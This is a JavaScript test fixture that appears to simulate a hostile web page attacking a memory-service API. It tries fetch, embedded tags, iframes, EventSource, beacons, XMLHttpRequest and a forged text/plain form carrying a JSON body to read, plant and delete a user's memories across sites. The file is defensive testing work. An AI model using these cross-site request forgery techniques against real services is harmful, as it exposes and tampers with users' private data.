/**
 * The script of a hostile page, whose text tests run inside pages. It tries every way in which a page can
 * send a request to another site, to read, plant and erase memories.
 * @param prey `url` of the server, `userId` and `memoryId` of a memory there, `planted` words to plant
 * @returns what the page could see of each answer, by the name of the attempt
 */
// biome-ignore lint/correctness/noUnusedVariables: the test calls it
async function attack({ url, userId, memoryId, planted }) {
  const tries = [];
  const look = (name, act) => {
    tries.push(
      act().then(
        (seen) => [name, seen],
        (error) => [name, `failed: ${error}`],
      ),
    );
  };
  const read = async (path, init) => {
    const answer = await fetch(`${url}${path}`, init);
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  };
  const insert = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    const end = new Promise((resolve) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('failed');
    });
    document.body.append(element);
    return { element, end };
  };
  const textIn = (frame) => `framed ${frame.contentDocument?.body?.innerText ?? ''}`;

  const addresses = [
    `/product/get_memory/${memoryId}`,
    `/product/scheduler/status?user_id=${userId}`,
    `/product/scheduler/wait/stream?user_name=${userId}`,
    '/v1/get/memory/x',
    '/admin/projects',
    '/health/ready',
    '/metrics',
    '/openapi.json',
    '/docs',
  ];
  for (const path of addresses) {
    look(`GET ${path}`, () => read(path));
    look(`GET without CORS ${path}`, () => read(path, { mode: 'no-cors' }));
    for (const tag of ['img', 'script', 'video']) {
      look(`${tag} ${path}`, () => insert(tag, { src: `${url}${path}` }).end);
    }
    look(`iframe ${path}`, async () => {
      const { element, end } = insert('iframe', { src: `${url}${path}` });
      await end;
      return textIn(element);
    });
  }
  look('event source', async () => {
    const source = new EventSource(`${url}/product/scheduler/wait/stream?user_name=${userId}`);
    const first = await new Promise((resolve) => {
      source.onmessage = ({ data }) => resolve(data);
      source.onerror = () => resolve('failed');
    });
    source.close();
    return first;
  });

  const calls = [
    ['/product/add', { user_id: userId, messages: planted }],
    ['/product/search', { user_id: userId, query: 'What is secret?' }],
    ['/product/get_all', { user_id: userId, memory_type: 'text_mem' }],
    ['/product/chat/stream', { user_id: userId, query: planted }],
    ['/product/feedback', { user_id: userId, history: [], feedback_content: planted }],
    ['/product/delete_memory', { memory_ids: [memoryId] }],
    ['/product/delete_memory', { user_id: userId, writable_cube_ids: [userId] }],
    ['/v1/add/message', { user_id: userId, messages: [{ role: 'user', content: planted }] }],
    ['/admin/projects', { name: planted }],
  ];
  for (const [path, fields] of calls) {
    const text = JSON.stringify(fields);
    const form = new FormData();
    form.append('file', text);
    const bodies = {
      blob: new Blob([text]),
      buffer: new TextEncoder().encode(text),
      text,
      'blob of JSON': new Blob([text], { type: 'application/json' }),
      'blob that begins like text': new Blob([text], { type: 'text/plain;application/json' }),
      form,
      'form fields': new URLSearchParams({ [text]: '' }),
    };
    for (const [kind, body] of Object.entries(bodies)) {
      const name = `${path} ${text} ${kind}`;
      look(`POST ${name}`, () => read(path, { method: 'POST', body }));
      look(`POST without CORS ${name}`, () => read(path, { method: 'POST', body, mode: 'no-cors' }));
      look(`beacon ${name}`, async () => String(navigator.sendBeacon(`${url}${path}`, body)));
    }
    look(`POST ${path} ${text} JSON`, () =>
      read(path, { method: 'POST', body: text, headers: { 'content-type': 'application/json' } }),
    );
    look(`XMLHttpRequest ${path} ${text}`, async () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${url}${path}`);
      const end = new Promise((resolve) => {
        request.onloadend = resolve;
      });
      request.send(new Blob([text]));
      await end;
      return `${request.status} ${request.responseText}`;
    });
    look(`form ${path} ${text}`, async () => {
      const { element: frame } = insert('iframe', { name: `frame ${path} ${text}` });
      const { element: sent } = insert('form', {
        method: 'POST',
        action: `${url}${path}`,
        enctype: 'text/plain',
        target: frame.name,
      });
      // such a form sends "name=value"; here this is a JSON body, with the "=" inside a string
      const name = `${text.slice(0, -1)},"x":"`;
      sent.append(Object.assign(document.createElement('input'), { name, value: '"}' }));
      const end = new Promise((resolve) => {
        frame.onload = resolve;
      });
      sent.submit();
      await end;
      return textIn(frame);
    });
  }
  return Object.fromEntries(await Promise.all(tries));
}
